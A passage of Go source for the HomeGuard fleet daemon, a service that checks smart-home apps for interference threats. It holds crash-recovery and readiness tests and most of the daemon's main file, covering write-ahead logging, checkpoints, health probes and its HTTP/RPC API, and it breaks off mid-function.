// exact production boot/serve/recover path, not a test double.
func TestMain(m *testing.M) {
	if os.Getenv("HOMEGUARDD_TEST_DAEMON") == "1" {
		main()
		return
	}
	os.Exit(m.Run())
}

// newWALServer boots a server in WAL mode the way main() does: restore
// checkpoint, open log, replay, attach, ready.
func newWALServer(t *testing.T, walDir, ckptPath string) (*server, *wal.Log) {
	t.Helper()
	srv := newServer(fleet.Options{Shards: 4})
	l := bootRecover(srv, walDir, ckptPath, wal.Options{Dir: walDir, Fsync: wal.FsyncOff})
	srv.markReady()
	return srv, l
}

// TestDaemonCheckpointRecovery is the in-process warm-recovery path: a
// daemon serving fleet installs AND store batches checkpoints mid-stream,
// keeps mutating, stops without a final checkpoint (the crash shape),
// and a second daemon must recover checkpoint-plus-log into identical
// serving state — homes, threat logs, store revision and findings feed.
func TestDaemonCheckpointRecovery(t *testing.T) {
	dir := t.TempDir()
	walDir := filepath.Join(dir, "wal")
	ckpt := filepath.Join(walDir, "checkpoint")

	srv, l := newWALServer(t, walDir, ckpt)
	install := func(s *server, home, app string) (int, map[string]any) {
		return doJSON(t, s, "POST", "/homes/"+home+"/install", map[string]any{"corpus": app})
	}
	for i, app := range []string{"ComfortTV", "ColdDefender", "CatchLiveShow"} {
		if code, resp := install(srv, fmt.Sprintf("h%d", i%2), app); code != http.StatusOK {
			t.Fatalf("install %s: status %d resp %v", app, code, resp)
		}
	}
	if code, resp := doJSON(t, srv, "POST", "/store/apps", map[string]any{
		"upserts": []map[string]any{{"corpus": "ComfortTV"}, {"corpus": "ColdDefender"}},
	}); code != http.StatusOK {
		t.Fatalf("store batch: status %d resp %v", code, resp)
	}
	if err := checkpoint(ckpt, l, srv.fleet, srv.auditor); err != nil {
		t.Fatalf("checkpoint: %v", err)
	}

	// Post-checkpoint tail: replay must land exactly these on top.
	if code, resp := install(srv, "h2", "NightCare"); code != http.StatusOK {
		t.Fatalf("install NightCare: status %d resp %v", code, resp)
	}
	if code, resp := doJSON(t, srv, "POST", "/homes/h0/reconfigure", map[string]any{
		"app": "ComfortTV", "config": map[string]any{"devices": map[string]any{"tv1": "tv-9"}},
	}); code != http.StatusOK {
		t.Fatalf("reconfigure: status %d resp %v", code, resp)
	}
	if code, resp := doJSON(t, srv, "POST", "/store/apps", map[string]any{
		"removes": []string{"ColdDefender"},
	}); code != http.StatusOK {
		t.Fatalf("store remove: status %d resp %v", code, resp)
	}
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}

	srv2, l2 := newWALServer(t, walDir, ckpt)
	defer l2.Close()
	for _, home := range srv.fleet.HomeIDs() {
		_, want := doJSON(t, srv, "GET", "/homes/"+home+"/threats", nil)
		_, got := doJSON(t, srv2, "GET", "/homes/"+home+"/threats", nil)
		if fmt.Sprint(want) != fmt.Sprint(got) {
			t.Errorf("home %s threats diverged after recovery:\n got %v\nwant %v", home, got, want)
		}
		_, wantApps := doJSON(t, srv, "GET", "/homes/"+home+"/apps", nil)
		_, gotApps := doJSON(t, srv2, "GET", "/homes/"+home+"/apps", nil)
		if fmt.Sprint(wantApps) != fmt.Sprint(gotApps) {
			t.Errorf("home %s apps diverged after recovery:\n got %v\nwant %v", home, gotApps, wantApps)
		}
	}
	if w, g := srv.auditor.Rev(), srv2.auditor.Rev(); w != g {
		t.Errorf("store revision after recovery = %d, want %d", g, w)
	}
	_, wantFeed := doJSON(t, srv, "GET", "/store/findings?since=1", nil)
	_, gotFeed := doJSON(t, srv2, "GET", "/store/findings?since=1", nil)
	if fmt.Sprint(wantFeed) != fmt.Sprint(gotFeed) {
		t.Errorf("findings feed diverged after recovery:\n got %v\nwant %v", gotFeed, wantFeed)
	}

	// The recovered daemon keeps serving and logging.
	if code, resp := install(srv2, "h3", "BurglarFinder"); code != http.StatusOK {
		t.Fatalf("post-recovery install: status %d resp %v", code, resp)
	}
}

// TestGateRefusesUntilReady pins the recovery gate: while boot recovery
// runs, API traffic is refused with 503 but the probes pass through, so
// orchestrators see an honest "starting" instead of half-replayed state.
func TestGateRefusesUntilReady(t *testing.T) {
	srv := newServer(fleet.Options{Shards: 4})
	h := srv.gate(srv.mux)
	get := func(path string) int {
		w := httptest.NewRecorder()
		h.ServeHTTP(w, httptest.NewRequest("GET", path, nil))
		return w.Code
	}
	if code := get("/metrics"); code != http.StatusServiceUnavailable {
		t.Errorf("API during recovery: status %d, want 503", code)
	}
	if code := get("/readyz"); code != http.StatusServiceUnavailable {
		t.Errorf("readyz during recovery: status %d, want 503 (from the probe, not the gate)", code)
	}
	if code := get("/healthz"); code != http.StatusOK {
		t.Errorf("healthz during recovery: status %d, want 200 (liveness is not readiness)", code)
	}
	srv.markReady()
	if code := get("/metrics"); code != http.StatusOK {
		t.Errorf("API after ready: status %d, want 200", code)
	}
}

// daemonProc is one re-exec'd daemon under test.
type daemonProc struct {
	cmd  *exec.Cmd
	addr string
}

func startDaemon(t *testing.T, addr, walDir string, extra ...string) *daemonProc {
	t.Helper()
	args := append([]string{
		"-addr", addr, "-rpc-addr", "",
		"-wal-dir", walDir, "-fsync", "always",
		"-checkpoint-interval", "300ms",
	}, extra...)
	cmd := exec.Command(os.Args[0], args...)
	cmd.Env = append(os.Environ(), "HOMEGUARDD_TEST_DAEMON=1")
	cmd.Stderr = os.Stderr
	if err := cmd.Start(); err != nil {
		t.Fatalf("start daemon: %v", err)
	}
	return &daemonProc{cmd: cmd, addr: addr}
}

// waitReady polls /readyz until 200, recording whether a 503 "not ready
// yet" answer was observed on the way (the listener is up before
// recovery finishes, so a slow recovery shows the flip).
func (d *daemonProc) waitReady(t *testing.T, timeout time.Duration) (saw503 bool) {
	t.Helper()
	deadline := time.Now().Add(timeout)
	for time.Now().Before(deadline) {
		resp, err := http.Get("http://" + d.addr + "/readyz")
		if err == nil {
			code := resp.StatusCode
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			if code == http.StatusOK {
				return saw503
			}
			if code == http.StatusServiceUnavailable {
				saw503 = true
			}
		}
		time.Sleep(10 * time.Millisecond)
	}
	t.Fatalf("daemon at %s never became ready", d.addr)
	return saw503
}

func freeAddr(t *testing.T) string {
	t.Helper()
	lis, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	addr := lis.Addr().String()
	lis.Close()
	return addr
}

// TestDaemonCrashRecovery is the daemon-level fault injection: a real
// homeguardd process (re-exec'd via TestMain) takes an install storm
// with -fsync always, is SIGKILLed mid-storm, and a restarted daemon
// must serve every acknowledged install — zero acked operations lost,
// recovery bounded by checkpoint-plus-tail, /readyz honest throughout.
func TestDaemonCrashRecovery(t *testing.T) {
	if testing.Short() {
		t.Skip("spawns and SIGKILLs real daemon processes")
	}
	walDir := filepath.Join(t.TempDir(), "wal")
	addr := freeAddr(t)
	d := startDaemon(t, addr, walDir)
	defer d.cmd.Process.Kill()
	d.waitReady(t, 10*time.Second)

	// The storm: sequential installs across many homes, rotating the demo
	// catalog. Everything the daemon answered 200 to is "acked" and must
	// survive the kill; the in-flight request the kill interrupts may
	// legally land on either side.
	apps := []string{"ComfortTV", "ColdDefender", "CatchLiveShow", "BurglarFinder", "NightCare"}
	type acked struct{ home, app string }
	var ackedOps []acked
	client := &http.Client{Timeout: 5 * time.Second}
	for i := 0; i < 60; i++ {
		home := fmt.Sprintf("home-%03d", i)
		app := apps[i%len(apps)]
		body := strings.NewReader(fmt.Sprintf(`{"corpus": %q}`, app))
		resp, err := client.Post("http://"+addr+"/homes/"+home+"/install", "application/json", body)
		if err != nil {
			break // the kill below may race the last request
		}
		code := resp.StatusCode
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if code != http.StatusOK {
			t.Fatalf("install %s into %s: status %d", app, home, code)
		}
		ackedOps = append(ackedOps, acked{home, app})
		if len(ackedOps) == 40 {
			// Mid-storm, with at least one checkpoint interval elapsed so
			// the kill lands on checkpoint + log tail, not log alone.
			break
		}
	}
	if len(ackedOps) < 40 {
		t.Fatalf("storm acked only %d installs before failing", len(ackedOps))
	}
	if err := d.cmd.Process.Kill(); err != nil { // SIGKILL: no drain, no final checkpoint
		t.Fatal(err)
	}
	d.cmd.Wait()

	// Restart on the same WAL dir: recovery must replay to exactly the
	// acked state.
	addr2 := freeAddr(t)
	d2 := startDaemon(t, addr2, walDir)
	defer func() {
		d2.cmd.Process.Signal(syscall.SIGTERM)
		d2.cmd.Wait()
	}()
	d2.waitReady(t, 30*time.Second)

	lost := 0
	for _, op := range ackedOps {
		resp, err := client.Get("http://" + addr2 + "/homes/" + op.home + "/apps")
		if err != nil {
			t.Fatalf("apps %s: %v", op.home, err)
		}
		var out struct {
			Apps []string `json:"apps"`
		}
		err = json.NewDecoder(resp.Body).Decode(&out)
		resp.Body.Close()
		if err != nil {
			t.Fatalf("apps %s: %v", op.home, err)
		}
		found := false
		for _, a := range out.Apps {
			if a == op.app {
				found = true
				break
			}
		}
		if !found {
			lost++
			t.Errorf("acked install lost: %s in %s (recovered apps %v)", op.app, op.home, out.Apps)
		}
	}
	if lost > 0 {
		t.Fatalf("%d of %d acknowledged installs lost after SIGKILL + recovery", lost, len(ackedOps))
	}

	// The recovered daemon serves repeat traffic entirely from restored
	// state: re-installing an acked app must be refused as a duplicate.
	body := strings.NewReader(`{"corpus": "ComfortTV"}`)
	resp, err := client.Post("http://"+addr2+"/homes/"+ackedOps[0].home+"/install", "application/json", body)
	if err != nil {
		t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusConflict {
		t.Errorf("re-install of recovered app: status %d, want 409 (already installed)", resp.StatusCode)
	}
}
