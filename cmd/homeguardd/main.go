// Command homeguardd is the HomeGuard fleet daemon: an enforcement edge
// that runs install-time CAI detection for many homes at once, sharing
// one content-addressed extraction cache across the fleet. It serves
// the same service core over two transports — HTTP/JSON and the framed
// gRPC-modeled RPC protocol of internal/rpc — plus an asynchronous
// event pipeline that ships install/threat events to a sink without
// ever blocking a verdict.
//
// Usage:
//
//	homeguardd [-addr :8080] [-rpc-addr :8081] [-shards 16]
//	           [-events-sink stdout|/path/to/events.jsonl]
//	           [-pprof-addr 127.0.0.1:6060]
//	           [-wal-dir /var/lib/homeguard/wal]
//	           [-fsync always|interval|off]
//	           [-checkpoint-interval 1m]
//	           [-snapshot-path /var/lib/homeguard/snapshot]
//	           [-log-format text|json] [-trace-slow-ms 250]
//
// # RPC edge
//
// -rpc-addr (default :8081, empty disables) serves the framed RPC
// protocol: unary Install/InstallBatch/Reconfigure/Threats/Accept/Apps
// and the SubmitApps/Findings store methods,
// plus the StreamInstall/StreamThreats bidirectional streams, with
// per-RPC deadlines, gRPC status codes, and per-stage circuit breakers
// (extraction and detection trip independently; an open breaker sheds
// with UNAVAILABLE and a retryAfterMs hint). HTTP and RPC dispatch into
// one shared service core, so verdicts and error codes are identical on
// either wire — see internal/rpc for the protocol and internal/api for
// the envelope.
//
// # Event pipeline
//
// -events-sink enables the fire-and-forget event writer: "stdout"
// emits one JSON object per line on standard output, any other value
// is an append-mode file path, empty (the default) disables the
// pipeline. Install, reconfigure and threat events — plus revision and
// finding events from the incremental store auditor — are published
// out of the request path into a bounded ring; a wedged sink
// costs dropped events (homeguard_events_dropped_total), never blocked
// verdicts. Delivery is at-most-once, drop-oldest under backpressure.
//
// # Observability
//
// The daemon carries the process-wide obs.Observer (see the root package's
// Observability section for the metric catalog and span stage names):
//
//   - GET /metrics serves the JSON snapshot it always has; adding
//     ?format=prometheus serves the same counters in Prometheus text
//     exposition format 0.0.4 under stable homeguard_* names, suitable
//     for a scrape config with no client library in the loop. RPC
//     serving adds the homeguard_rpc_* series (requests by method and
//     code, latency histogram, breaker states, stream gauges) and the
//     event pipeline the homeguard_events_* series.
//   - GET /debug/requests serves the slow-request capture: the N slowest
//     and M most recent traced request span trees as JSON, each tree
//     carrying per-stage timings (extract, detect, compile, solve, ...).
//   - -trace-slow-ms N enables pipeline span tracing and logs any traced
//     request slower than N milliseconds as a structured slog record
//     (level WARN, attrs span/duration/trace). 0 — the default — leaves
//     tracing compiled in but disabled: span calls are nil no-ops and the
//     hot detection path stays allocation-free.
//   - -log-format selects text (default, human logs) or json (one slog
//     JSON object per line, for log shippers).
//
// # Health probes
//
// GET /healthz is liveness: 200 while the process can serve, 503 once a
// graceful drain has begun. GET /readyz is readiness: 503 until the
// checkpoint/snapshot restore and WAL replay (when configured) have
// finished and the home shards are initialized, 200 while serving, and
// 503 again during drain so load balancers pull the instance before
// connections are forcibly closed. While recovering, every API route
// except the probes answers 503 with Retry-After — the listener is up
// (so orchestrators see the process, and readiness honestly reports
// the recovery phase) but no request observes half-replayed state.
//
// # Durability (write-ahead log + background checkpoints)
//
// -wal-dir, when set, makes the daemon crash-safe rather than merely
// warm-startable: every state-changing operation (home install,
// reconfigure, threat accept, store audit batch) is appended to a
// segmented write-ahead log in that directory BEFORE the client sees
// success, and a background checkpointer periodically persists the full
// state — both caches, every home (apps, resolved configs, accepted
// threats, ledger), and the store auditor including its revision
// history — then garbage-collects the log segments the checkpoint
// covers. On boot the daemon loads the newest checkpoint and replays
// the log tail, so a kill -9 (or kernel panic) loses nothing that was
// acknowledged: recovery converges to an exact prefix of the acked
// operation sequence, with at most one durable-but-unacked trailing op.
//
//   - -fsync always (the default) fsyncs the log before every ack —
//     the zero-loss configuration the crash-recovery CI job runs.
//   - -fsync interval batches fsyncs on a 50ms timer: acks may run
//     ahead of the disk by one interval, bounding loss to that window.
//   - -fsync off leaves flushing to the OS page cache (still safe
//     against process death, not against host death).
//   - -checkpoint-interval sets the checkpointer period (default 1m;
//     0 checkpoints only on graceful shutdown). Checkpoints are
//     written to -snapshot-path, defaulting to <wal-dir>/checkpoint.
//
// Log records are logical, not physical: an install record carries the
// app's marshaled extraction result and resolved config, so replay is
// deterministic and never re-runs symbolic execution or config
// resolution. Replay is idempotent via per-entity LSN watermarks
// persisted in the checkpoint (a record at or below an entity's
// watermark is skipped), so a checkpoint plus an overlapping tail
// recovers exactly once. A torn final record (the crash landed mid
// write) is truncated on open; corruption anywhere earlier refuses the
// log rather than replaying garbage, and a corrupt checkpoint in WAL
// mode is fatal — covered segments may already be GC'd, so serving a
// partial restore would silently drop acked state.
//
// The checkpoint file is one "HGCKSNP\x00" meta section (the log
// position the checkpoint covers) followed by the extraction-cache,
// pair-verdict, fleet-homes and auditor sections back to back, each in
// the internal/snapcodec framing (8-byte magic, big-endian uint32
// version, length-prefixed records, end sentinel, SHA-256 trailer) and
// each rejecting version skew and damage with typed errors. A legacy
// cache-only snapshot (pre-WAL format, bare "HGXCSNP\x00" first
// section) is still recognized and restores the caches it has.
//
// # Warm-start snapshots
//
// -snapshot-path alone (without -wal-dir) keeps the original
// cache-only warm-start mode: on boot the daemon restores the
// extraction cache and the pair-verdict cache from the named file (a missing file is a normal cold start; a corrupt or
// version-skewed file is logged and ignored), and on graceful shutdown
// (SIGINT/SIGTERM) it writes a fresh snapshot to a temp file and
// atomically renames it into place. A restarted daemon therefore serves
// its first install storm at warm-cache latency — repeat installs of a
// snapshotted catalog run symexec zero times and hit solved pair
// verdicts instead of invoking the solver.
//
// The snapshot file is two self-contained sections back to back, one per
// cache, each in the internal/snapcodec framing: an 8-byte magic
// ("HGXCSNP\x00" for extractions, "HGPVSNP\x00" for pair verdicts), a
// big-endian uint32 format version, a stream of length-prefixed records
// (32-byte content-address key followed by the JSON payload), a
// 0xFFFFFFFF end sentinel, and a SHA-256 checksum of the whole section.
// Restore rejects unknown versions and checksum mismatches with typed
// errors rather than loading garbage.
//
// -pprof-addr, when set, serves Go's net/http/pprof profiling endpoints
// (/debug/pprof/...) on a SEPARATE listener so profiling is never exposed
// on the public API address. Bind it to localhost (or an internal
// interface) and profile a live daemon with e.g.:
//
//	go tool pprof http://127.0.0.1:6060/debug/pprof/profile?seconds=30
//	go tool pprof http://127.0.0.1:6060/debug/pprof/heap
//
// The endpoints are off by default; an empty -pprof-addr starts no
// profiling listener at all.
//
// HTTP API (every error body is the shared envelope
// {"error": {"code": "...", "message": "..."}} with the code drawn from
// the gRPC vocabulary — the same envelope the RPC transport carries):
//
//	POST /homes/{id}/install        body {"source": "..."} or {"corpus": "AppName"},
//	                                optional "config"; returns the install
//	                                result (rules, threats, chains, report)
//	POST /homes/{id}/install-batch  body {"items": [{"corpus": ...}, ...]};
//	                                installs in order with parallel
//	                                extraction prewarm; per-item results
//	POST /homes/{id}/reconfigure    body {"app": "AppName", "config": {...}};
//	                                returns threats under the new config;
//	                                omitting config keeps the current one
//	POST /homes/{id}/accept         body {"threats": [0, 2]} — accept
//	                                threats by log index so later installs
//	                                report chains through them (Sec. VI-D)
//	GET  /homes/{id}/threats        every threat reported for the home;
//	                                ?active=true returns the incremental
//	                                ledger's CURRENT set instead (latest
//	                                verdict per app pair — reconfigure-
//	                                resolved threats gone; entries carry no
//	                                log indices)
//	GET  /homes/{id}/apps           installed app names
//	POST /store/apps                body {"upserts": [{"corpus"|"source": ...,
//	                                "name": ..., "config": ...}],
//	                                "removes": ["AppName"]}; applies one
//	                                batch to the incremental store auditor
//	                                and returns the revision with its
//	                                added/resolved findings delta
//	GET  /store/findings            store findings feed; ?since=<rev>
//	                                returns the delta after that revision
//	                                (or a reset snapshot when the revision
//	                                aged out of the retained history)
//	GET  /metrics                   fleet metrics: homes, installs,
//	                                extraction and pair-verdict cache hit
//	                                rates, footprint-prune and solver-call
//	                                counters, p50/p99 install latency,
//	                                per-threat-kind counts; add
//	                                ?format=prometheus for text exposition
//	GET  /debug/requests            slow-request capture: slowest + most
//	                                recent traced span trees (JSON)
//	GET  /healthz                   liveness probe (503 while draining)
//	GET  /readyz                    readiness probe (503 before the snapshot
//	                                restore completes and while draining)
//
// The config object has four optional maps:
//
//	{
//	  "devices":     {"inputName": "device-id"},
//	  "values":      {"inputName": "string or number or bool"},
//	  "valueLists":  {"inputName": ["a", "b"]},
//	  "deviceTypes": {"inputName": "heater"}
//	}
package main

import (
	"bufio"
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"log"
	"log/slog"
	"net"
	"net/http"
	"net/http/pprof"
	"os"
	"os/signal"
	"path/filepath"
	"strconv"
	"sync/atomic"
	"syscall"
	"time"

	"homeguard/internal/api"
	"homeguard/internal/audit"
	"homeguard/internal/events"
	"homeguard/internal/fleet"
	"homeguard/internal/obs"
	"homeguard/internal/rpc"
	"homeguard/internal/wal"
)

// maxBodyBytes caps request bodies (SmartApp sources are a few KB; 4 MiB
// leaves generous headroom while keeping one request from exhausting the
// daemon's memory).
const maxBodyBytes = 4 << 20

func main() {
	addr := flag.String("addr", ":8080", "HTTP listen address")
	rpcAddr := flag.String("rpc-addr", ":8081",
		"RPC listen address for the framed gRPC-modeled transport (empty = disabled)")
	shards := flag.Int("shards", 16, "home-map shard count")
	eventsSink := flag.String("events-sink", "",
		`async event sink: "stdout" for JSON lines on stdout, any other value is an append-mode file path (empty = disabled)`)
	pprofAddr := flag.String("pprof-addr", "",
		"optional address for net/http/pprof profiling endpoints (empty = disabled); bind to localhost")
	snapshotPath := flag.String("snapshot-path", "",
		"optional warm-start snapshot file: restored on boot, written on graceful shutdown (empty = disabled; with -wal-dir, defaults to <wal-dir>/checkpoint and holds the full-state checkpoint)")
	walDir := flag.String("wal-dir", "",
		"write-ahead-log directory: every mutation is logged before acknowledgment and replayed on boot (empty = durability off)")
	fsyncMode := flag.String("fsync", "always",
		`WAL fsync policy: "always" (fsync before every acknowledgment), "interval" (background fsync every 100ms; a crash may lose the last interval), "off" (no fsync; a crash may lose OS-buffered records)`)
	checkpointInterval := flag.Duration("checkpoint-interval", time.Minute,
		"how often the background checkpointer persists full state and collects covered WAL segments (0 = checkpoint only on graceful shutdown)")
	logFormat := flag.String("log-format", "text",
		"structured log encoding: text (human-readable) or json (one object per line)")
	traceSlowMs := flag.Int("trace-slow-ms", 0,
		"enable pipeline span tracing and log requests slower than this many milliseconds (0 = tracing disabled)")
	flag.StringVar(&nodeID, "node-id", "",
		"stable cluster identity reported in Ping responses; gateways refuse to route to an address whose Ping answers with a different ID (empty = standalone)")
	flag.Parse()

	fsyncPolicy, err := wal.ParsePolicy(*fsyncMode)
	if err != nil {
		log.Fatalf("homeguardd: -fsync: %v", err)
	}
	if *walDir != "" && *snapshotPath == "" {
		*snapshotPath = filepath.Join(*walDir, "checkpoint")
	}

	var logger *slog.Logger
	switch *logFormat {
	case "text":
		logger = slog.New(slog.NewTextHandler(os.Stderr, nil))
	case "json":
		logger = slog.New(slog.NewJSONHandler(os.Stderr, nil))
	default:
		log.Fatalf("homeguardd: -log-format must be text or json, got %q", *logFormat)
	}
	slog.SetDefault(logger)

	opts := fleet.Options{Shards: *shards, Obs: obs.NewObserver()}
	var eventWriter *events.Writer
	if *eventsSink != "" {
		var sink events.Sink
		if *eventsSink == "stdout" {
			sink = events.NewJSONSink(os.Stdout)
		} else {
			var err error
			sink, err = events.NewFileSink(*eventsSink)
			if err != nil {
				log.Fatalf("homeguardd: -events-sink: %v", err)
			}
		}
		eventWriter = events.NewWriter(sink, events.Options{Registry: opts.Obs.Registry})
		opts.Events = eventWriter
		log.Printf("homeguardd: event pipeline on (sink %s)", *eventsSink)
	}

	srv := newServer(opts)
	srv.obs.Tracer.SetLogger(logger)
	if *traceSlowMs > 0 {
		srv.obs.Tracer.SetSlowThreshold(time.Duration(*traceSlowMs) * time.Millisecond)
		srv.obs.Tracer.SetEnabled(true)
		log.Printf("homeguardd: span tracing on, logging requests slower than %dms", *traceSlowMs)
	}
	if *pprofAddr != "" {
		go servePprof(*pprofAddr)
	}

	// The HTTP listener comes up BEFORE recovery so orchestrators probing
	// /readyz see 503 "starting" (not connection refused) for the whole
	// checkpoint restore + WAL replay, and flip to 200 the moment the
	// recovered state serves. The gate refuses API traffic until then —
	// a request served against half-replayed state would be a lie.
	//
	// Explicit timeouts: the default zero-timeout server lets stalled
	// peers hold connections (and their goroutines) forever.
	hs := &http.Server{
		Addr:              *addr,
		Handler:           srv.gate(srv.mux),
		ReadHeaderTimeout: 10 * time.Second,
		ReadTimeout:       30 * time.Second,
		WriteTimeout:      60 * time.Second,
		IdleTimeout:       120 * time.Second,
	}
	errCh := make(chan error, 1)
	go func() { errCh <- hs.ListenAndServe() }()
	log.Printf("homeguardd: fleet daemon listening on %s", *addr)

	var wlog *wal.Log
	if *walDir != "" {
		wlog = bootRecover(srv, *walDir, *snapshotPath, wal.Options{
			Dir:      *walDir,
			Fsync:    fsyncPolicy,
			Registry: srv.obs.Registry,
		})
	} else if *snapshotPath != "" {
		loadSnapshot(*snapshotPath, srv.fleet)
	}
	srv.markReady()

	// RPC listener: same service core as the HTTP handlers, so the two
	// transports cannot diverge. Started after recovery — the framed
	// protocol has no readiness probe, so it must not accept mutations
	// mid-replay.
	var rpcSrv *rpc.Server
	if *rpcAddr != "" {
		lis, err := net.Listen("tcp", *rpcAddr)
		if err != nil {
			log.Fatalf("homeguardd: rpc listen: %v", err)
		}
		rpcSrv = rpc.NewServer(srv.svc, rpc.ServerOptions{Obs: srv.obs})
		go func() {
			if err := rpcSrv.Serve(lis); err != nil {
				log.Printf("homeguardd: rpc serve: %v", err)
			}
		}()
		log.Printf("homeguardd: rpc edge listening on %s", *rpcAddr)
	}

	// The background checkpointer replaces save-on-shutdown-only
	// persistence: replay after a crash is bounded by one interval of
	// log, not the daemon's whole uptime.
	ckptCtx, ckptCancel := context.WithCancel(context.Background())
	ckptDone := make(chan struct{})
	if wlog != nil && *checkpointInterval > 0 {
		go func() {
			defer close(ckptDone)
			runCheckpointer(ckptCtx, *checkpointInterval, *snapshotPath, wlog, srv.fleet, srv.auditor)
		}()
	} else {
		close(ckptDone)
	}

	// Serve until SIGINT/SIGTERM, then drain connections and persist a
	// final checkpoint: a routine restart must not cost the fleet a cold
	// extraction/solving storm — or any replay at all.
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	select {
	case err := <-errCh:
		log.Fatal(err)
	case <-ctx.Done():
	}
	log.Printf("homeguardd: shutting down")
	// Flip the probes to 503 first so orchestrators stop routing new
	// traffic while in-flight requests drain.
	srv.startDrain()
	shutCtx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	if err := hs.Shutdown(shutCtx); err != nil {
		log.Printf("homeguardd: shutdown: %v", err)
	}
	if rpcSrv != nil {
		if err := rpcSrv.Close(); err != nil {
			log.Printf("homeguardd: rpc close: %v", err)
		}
	}
	ckptCancel()
	<-ckptDone
	if wlog != nil {
		if err := checkpoint(*snapshotPath, wlog, srv.fleet, srv.auditor); err != nil {
			log.Printf("homeguardd: final checkpoint failed (the log still covers everything): %v", err)
		}
		if err := wlog.Close(); err != nil {
			log.Printf("homeguardd: wal close: %v", err)
		}
	} else if *snapshotPath != "" {
		if err := saveSnapshot(*snapshotPath, srv.fleet); err != nil {
			log.Printf("homeguardd: snapshot save failed: %v", err)
		}
	}
	// Last: drain the buffered events so a graceful restart loses none.
	if eventWriter != nil {
		if err := eventWriter.Close(); err != nil {
			log.Printf("homeguardd: event sink close: %v", err)
		}
	}
}

// saveSnapshot writes both caches' sections to a temp file and atomically
// renames it over path, so a crash mid-write can never leave a truncated
// snapshot where the next boot will find it.
func saveSnapshot(path string, f *fleet.Fleet) error {
	tmp := path + ".tmp"
	file, err := os.Create(tmp)
	if err != nil {
		return err
	}
	w := bufio.NewWriter(file)
	nx, err := f.Cache().Snapshot(w)
	if err != nil {
		file.Close()
		os.Remove(tmp)
		return err
	}
	nv := 0
	if v := f.Verdicts(); v != nil {
		if nv, err = v.Snapshot(w); err != nil {
			file.Close()
			os.Remove(tmp)
			return err
		}
	}
	if err := w.Flush(); err != nil {
		file.Close()
		os.Remove(tmp)
		return err
	}
	if err := file.Sync(); err != nil {
		file.Close()
		os.Remove(tmp)
		return err
	}
	if err := file.Close(); err != nil {
		os.Remove(tmp)
		return err
	}
	if err := os.Rename(tmp, path); err != nil {
		os.Remove(tmp)
		return err
	}
	// Fsyncing the temp file makes the CONTENT durable; the rename that
	// publishes it lives in the parent directory, which has its own write
	// cache. Without the directory sync a crash shortly after a clean
	// shutdown can boot with the previous snapshot — or none at all.
	if err := wal.SyncDir(filepath.Dir(path)); err != nil {
		return err
	}
	log.Printf("homeguardd: snapshot saved to %s (%d extractions, %d pair verdicts)", path, nx, nv)
	return nil
}

// loadSnapshot restores both caches from path. Every failure mode — no
// file yet, version skew, corruption — degrades to a cold (or partially
// warm) start with a log line; a damaged snapshot must never stop the
// daemon from serving.
func loadSnapshot(path string, f *fleet.Fleet) {
	file, err := os.Open(path)
	if err != nil {
		if os.IsNotExist(err) {
			log.Printf("homeguardd: no snapshot at %s, starting cold", path)
		} else {
			log.Printf("homeguardd: snapshot open failed, starting cold: %v", err)
		}
		return
	}
	defer file.Close()
	loadCaches(bufio.NewReader(file), path, f)
}

// loadCaches restores the extraction and pair-verdict cache sections
// from r — the body of a legacy snapshot, also embedded in the WAL-mode
// checkpoint format.
func loadCaches(r *bufio.Reader, path string, f *fleet.Fleet) {
	nx, err := f.Cache().Restore(r)
	if err != nil {
		log.Printf("homeguardd: extraction-cache restore failed (%d entries kept): %v", nx, err)
		return
	}
	nv := 0
	if v := f.Verdicts(); v != nil {
		// An older snapshot (or one from a verdict-less config) may end
		// after the extraction section.
		if _, err := r.Peek(1); err == io.EOF {
			log.Printf("homeguardd: snapshot restored from %s (%d extractions, no verdict section)", path, nx)
			return
		}
		if nv, err = v.Restore(r); err != nil {
			log.Printf("homeguardd: pair-verdict restore failed (%d verdicts kept): %v", nv, err)
			return
		}
	}
	log.Printf("homeguardd: snapshot restored from %s (%d extractions, %d pair verdicts)", path, nx, nv)
}

// servePprof runs the profiling listener. A dedicated mux (rather than
// http.DefaultServeMux, which net/http/pprof auto-registers on) keeps the
// endpoints off the API mux even if other code ever serves the default
// mux, and a dedicated server keeps profiling traffic off the API
// listener's timeouts — a 30s CPU profile would trip a WriteTimeout
// sized for JSON responses.
func servePprof(addr string) {
	mux := http.NewServeMux()
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
	log.Printf("homeguardd: pprof endpoints on %s/debug/pprof/", addr)
	hs := &http.Server{
		Addr:              addr,
		Handler:           mux,
		ReadHeaderTimeout: 10 * time.Second,
	}
	if err := hs.ListenAndServe(); err != nil {
		log.Printf("homeguardd: pprof listener: %v", err)
	}
}

type server struct {
	fleet   *fleet.Fleet
	auditor *audit.Auditor
	svc     *rpc.Service
	obs     *obs.Observer
	mux     *http.ServeMux
	// ready flips true once boot (including any snapshot restore) is
	// complete; draining flips true when graceful shutdown begins. Both
	// are read by the health probes on every scrape.
	ready    atomic.Bool
	draining atomic.Bool
}

// nodeID is the daemon's stable cluster identity (-node-id), answered
// in Ping responses so gateways can verify the address they dialed is
// the member the ring says it is. Empty in standalone deployments and
// in-process tests.
var nodeID string

// newServer builds the daemon around one process-wide observability
// bundle: the fleet registers its metric collector on opts.Obs (created
// here when the caller left it nil), and the same bundle's tracer and
// capture back /debug/requests and the slow-request log. Both
// transports dispatch into one rpc.Service, so HTTP handlers get the
// per-stage circuit breakers and the shared error envelope for free.
func newServer(opts fleet.Options) *server {
	if opts.Obs == nil {
		opts.Obs = obs.NewObserver()
	}
	f := fleet.New(opts)
	// The incremental store auditor shares the fleet's extraction cache,
	// observability bundle and event pipeline: store revisions surface in
	// the same scrape and event feed as per-home installs.
	aud := audit.NewAuditor(audit.AuditorOptions{
		Extract: f.Cache(),
